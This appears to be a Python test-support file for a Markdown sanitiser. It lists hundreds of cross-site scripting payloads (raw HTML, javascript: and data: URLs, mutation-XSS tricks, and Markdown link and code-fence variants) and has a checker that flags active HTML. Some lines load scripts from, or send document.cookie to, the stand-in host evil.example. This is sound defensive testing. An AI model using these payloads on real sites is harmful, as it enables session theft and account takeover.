"""Attacks on the Markdown sanitiser, and a check that rendered HTML holds nothing active.

``XSS_PAYLOADS`` is what a hostile author could type into any Markdown field (a brief, a
review, a question, an article): raw HTML vectors first, then the same tricks inside
Markdown's own constructs (links, reference links, autolinks, images, titles, code blocks
and inline code). ``assert_no_active_content(html)`` fails on anything in ``html`` a
browser would run or that could restyle or redirect the page; it can be pointed at a
whole rendered page as well as at ``render_markdown``'s output.
"""

import base64
import unicodedata
from html.parser import HTMLParser

# Elements that run code, load other documents, restyle or re-target the page, or
# reparse their content (mXSS): none may come out of the sanitiser.
FORBIDDEN_ELEMENTS = {
    "script", "iframe", "object", "embed", "style", "link", "meta", "base", "form",
    "svg", "math", "template", "frame", "frameset", "applet",
}  # fmt: skip
FORBIDDEN_ATTRIBUTES = {"style", "srcdoc"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "background"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")


def _url_as_a_browser_reads_it(value: str) -> str:
    """The URL as a browser's URL parser reads its scheme, lowercased: control and
    invisible format characters dropped wherever they are (browsers drop tab, CR and LF
    anywhere), whitespace dropped at both ends. A space inside a scheme is kept, because
    there it makes the URL a harmless relative one ("java   script:x", which is what
    Markdown makes of a tab). HTMLParser has already unescaped the entities."""
    without_controls = "".join(
        char for char in value if unicodedata.category(char) not in {"Cc", "Cf"}
    )
    return without_controls.strip().lower()


class _ActiveContentFinder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            elif name in FORBIDDEN_ATTRIBUTES:
                self.problems.append(f"{name}= attribute on <{tag}>")
            elif name in URL_ATTRIBUTES and value is not None:
                url = _url_as_a_browser_reads_it(value)
                if url.startswith(DANGEROUS_SCHEMES):
                    self.problems.append(f"{name}={value!r} on <{tag}>")


def assert_no_active_content(html: str) -> None:
    """Fail (AssertionError) if ``html`` holds an element, attribute or URL that could
    run script, load a foreign document or restyle the page."""
    finder = _ActiveContentFinder()
    finder.feed(html)
    finder.close()
    assert not finder.problems, (
        "Active content survived: " + "; ".join(finder.problems) + f"\nin: {html!r}"
    )


_B64_SCRIPT = base64.b64encode(b"<script>alert(1)</script>").decode()
_B64_SVG = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
).decode()

# --- Raw HTML -------------------------------------------------------------------------

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script\t>alert(1)</script>",
    "<script/x>alert(1)</script>",
    '<script src="https://evil.example/x.js"></script>',
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    '<script type="module">import("//evil.example/m.js")</script>',
    '<script type="text/vbscript">MsgBox 1</script>',
    "<script>alert(1)",
    "<script src=//evil.example/x.js",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<script><!--\nalert(1)//--></script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<p>text</p><script>alert(1)</script><p>more</p>",
    "<div><script>alert(1)</script></div>",
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "<%00script>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "<img src=x\tonerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src=x onerror='alert(1)'>",
    "<img src=x onerror=`alert(1)`>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '<img src=x onerror="javascript:alert(1)">',
    "<img src onerror=alert(1)>",
    "<img onload=alert(1) src=https://example.com/a.png>",
    '<img src="https://example.com/a.png" alt="a" title="t" onmouseover="alert(1)">',
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<SVG ONLOAD=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x to=1>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,' + _B64_SVG + '#x"></use></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<body onhashchange=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe onload=alert(1)></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<details open ontoggle=alert(1)>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onmouseover=alert(1)>hover</div>",
    "<p onclick=alert(1)>click</p>",
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    "<b onmouseover=alert(1)>bold</b>",
    "<span onpointerenter=alert(1)>x</span>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<td onmouseover=alert(1)>x</td>",
    '<div class="codehilite" onclick="alert(1)">x</div>',
    '<span class="k" onmouseover="alert(1)">x</span>',
    "<x onclick=alert(1)>custom element</x>",
    "<custom-tag onfocus=alert(1) tabindex=0>x</custom-tag>",
    "<h1 onanimationstart=alert(1)>x</h1>",
    "<pre onscroll=alert(1)>x</pre>",
]

URL_SCHEMES = [
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JAVASCRIPT:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\tjavascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106;&#0000097;vascript:alert(1)">x</a>',
    '<a href="&#x6a&#x61vascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="javascript&#x3a;alert(1)">x</a>',
    '<a href="&Tab;javascript:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="javascript:alert(1)" title="ok">x</a>',
    '<a href="vbscript:MsgBox(1)">x</a>',
    '<a href="VBScript:MsgBox(1)">x</a>',
    '<a href="data:text/html;base64,' + _B64_SCRIPT + '">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:image/svg+xml;base64,' + _B64_SVG + '">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="javascript:/**/alert(1)">x</a>',
    '<a href="  &#x20;javascript:alert(1)">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    "<img src=JaVaScRiPt:alert(1)>",
    '<img src="jav\tascript:alert(1)">',
    '<img src="data:text/html;base64,' + _B64_SCRIPT + '">',
    '<img src="data:image/svg+xml;base64,' + _B64_SVG + '">',
    '<img src="vbscript:MsgBox(1)">',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type="image" src="javascript:alert(1)">',
    '<isindex action="javascript:alert(1)" type=submit>',
    '<area href="javascript:alert(1)">',
    '<body background="javascript:alert(1)">',
    '<td background="javascript:alert(1)">x</td>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<abbr title="x" onclick="alert(1)">x</abbr>',
]

STYLE_AND_DOCUMENT = [
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="behavior: url(x.htc)">x</div>',
    '<div style="-moz-binding: url(https://evil.example/x.xml#xss)">x</div>',
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">cover</span>',
    '<img src="https://example.com/a.png" style="position:fixed;inset:0">',
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<STYLE>li{list-style-image:url("javascript:alert(1)")}</STYLE><ul><li>x</li></ul>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="import" href="https://evil.example/x.html">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<META HTTP-EQUIV="Set-Cookie" Content="session=stolen">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<base href="https://evil.example/">',
    '<base href="javascript:alert(1)//">',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,' + _B64_SCRIPT + '"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml;base64,' + _B64_SVG + '">',
    '<embed src="https://evil.example/x.swf" allowscriptaccess="always">',
    '<applet code="Evil.class"></applet>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<p srcdoc="x">not an iframe</p>',
    '<math href="javascript:alert(1)">x</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
]

MUTATION_AND_PARSER_TRICKS = [
    "<template><img src=x onerror=alert(1)></template>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><caption><svg><style><img src=x onerror=alert(1)>",
    '<a title="a</a><img src=x onerror=alert(1)>">x</a>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img src="x" alt="``onerror=alert(1)">',
    "<img src=x onerror=alert(1) <",
    "<img src=x onerror=alert(1)",
    "<a href=javascript:alert(1)",
    "<iframe src=javascript:alert(1)",
    '<div><img src=x onerror="alert(1)"',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
    "<!DOCTYPE html><html><head><script>alert(1)</script></head></html>",
    "</p><script>alert(1)</script><p>",
    "</div></div></main><script>alert(1)</script>",
    '<div class="codehilite"><span class="k"><script>alert(1)</script></span></div>',
    '<pre><code class="language-html" onclick="alert(1)">x</code></pre>',
]

# --- The same tricks inside Markdown --------------------------------------------------

MARKDOWN_LINKS_AND_IMAGES = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x](javascript:alert(1) "title")',
    "[x](javascript:alert%281%29)",
    "[x](java&#115;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](javas&#9;cript:alert(1))",
    "[x](vbscript:MsgBox(1))",
    "[x](data:text/html;base64," + _B64_SCRIPT + ")",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](javascript://example.com/%0Aalert(1))",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    '[x](https://example.com "a" onclick="alert(1)")',
    '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
    "[x](https://example.com 'a' onmouseover='alert(1)')",
    '[x](https://example.com (" onmouseover="alert(1)))',
    '[x](https://example.com "<script>alert(1)</script>")',
    '[x](https://example.com"onmouseover="alert(1))',
    "[x](https://example.com'onmouseover='alert(1))",
    '[x](https://example.com/"><script>alert(1)</script>)',
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    '[x][evil]\n\n[evil]: javascript:alert(1) "title"',
    "[x][evil]\n\n[evil]: <javascript:alert(1)>",
    "[x][evil]\n\n[evil]: JaVaScRiPt:alert(1)",
    "[x][evil]\n\n[evil]: data:text/html;base64," + _B64_SCRIPT,
    "[x][evil]\n\n[evil]: vbscript:MsgBox(1)",
    '[x][ok]\n\n[ok]: https://example.com "a" onclick="alert(1)"',
    '[x][ok]\n\n[ok]: https://example.com "\\" onclick=\\"alert(1)"',
    "[evil]\n\n[evil]: javascript:alert(1)",
    "![x][evil]\n\n[evil]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:MsgBox(1)>",
    "<data:text/html;base64," + _B64_SCRIPT + ">",
    '<https://example.com/"onmouseover="alert(1)>',
    "<https://example.com/'><script>alert(1)</script>>",
    '<mailto:a@example.com" onclick="alert(1)>',
    '<a@example.com" onclick="alert(1)>',
    "![x](javascript:alert(1))",
    "![x](JaVaScRiPt:alert(1))",
    "![x](vbscript:MsgBox(1))",
    "![x](data:text/html;base64," + _B64_SCRIPT + ")",
    "![x](data:image/svg+xml;base64," + _B64_SVG + ")",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '![x](https://example.com/a.png "a\\" onerror=\\"alert(1)")',
    '![x](https://example.com/a.png "a" onerror="alert(1)")',
    "![x](https://example.com/a.png 'a' onerror='alert(1)')",
    '![x" onerror="alert(1)](https://example.com/a.png)',
    "![x' onerror='alert(1)](https://example.com/a.png)",
    "![<img src=x onerror=alert(1)>](https://example.com/a.png)",
    '![x](x"onerror="alert(1))',
    "![x](x onerror=alert(1))",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[![x](https://example.com/a.png)](javascript:alert(1))",
]

MARKDOWN_BLOCKS = [
    "# <img src=x onerror=alert(1)>",
    "Title <script>alert(1)</script>\n=====",
    "> <script>alert(1)</script>",
    "> [x](javascript:alert(1))",
    "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    "1. <svg onload=alert(1)>",
    "*<img src=x onerror=alert(1)>*",
    "**<a href=javascript:alert(1)>x</a>**",
    "_[x](javascript:alert(1))_",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "<p>\n\n[x](javascript:alert(1))\n\n</p>",
    'Text\n\n<iframe src="javascript:alert(1)"></iframe>\n\nText',
    "<details open ontoggle=alert(1)>\n\n**bold**\n\n</details>",
    "***\n<script>alert(1)</script>\n***",
    '<a href="javascript:alert(1)">\n\n*x*\n\n</a>',
    "\\<script>alert(1)\\</script>",
    "<scr\nipt>alert(1)</script>",
    "<img\nsrc=x\nonerror=alert(1)>",
]

# Fences and inline code: the text must come out as text, never as markup, and a
# malicious language name must not become an attribute.
_FENCED = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "</code></pre><script>alert(1)</script>",
    "</span></div><img src=x onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>body{display:none}</style>",
    "<!--><img src=x onerror=alert(1)>-->",
]
CODE_BLOCKS = (
    [f"```html\n{payload}\n```" for payload in _FENCED]
    + [f"```python\nprint('{payload}')\n```" for payload in _FENCED]
    + [f"```\n{payload}\n```" for payload in _FENCED]
    + [f"~~~javascript\n{payload}\n~~~" for payload in _FENCED]
    + [f"    {payload}" for payload in _FENCED]
    + [f"Run `{payload}` now." for payload in _FENCED]
    + [
        '```"><script>alert(1)</script>\nx\n```',
        '```python"><script>alert(1)</script>\nx\n```',
        '```python" onmouseover="alert(1)\nx\n```',
        "```<img src=x onerror=alert(1)>\nx\n```",
        "```javascript:alert(1)\nx\n```",
        "``` { .python onclick=alert(1) }\nx\n```",
        '```{.html #x onclick="alert(1)" style="color:red"}\n<b>x</b>\n```',
        '```python hl_lines="1" onclick="alert(1)"\nx = 1\n```',
        "```html\n<script>alert(1)</script>",
        "```html\n```\n<script>alert(1)</script>\n```",
        "``<img src=x onerror=alert(1)>``",
        "`` ` <script>alert(1)</script> ` ``",
        "`</code><script>alert(1)</script>`",
        "[`x`](javascript:alert(1))",
        "```html\n<img src=x onerror=alert(1)>\n```\n\n<img src=x onerror=alert(1)>",
    ]
)

XSS_PAYLOADS: list[str] = (
    SCRIPT_TAGS
    + EVENT_HANDLERS
    + URL_SCHEMES
    + STYLE_AND_DOCUMENT
    + MUTATION_AND_PARSER_TRICKS
    + MARKDOWN_LINKS_AND_IMAGES
    + MARKDOWN_BLOCKS
    + CODE_BLOCKS
)
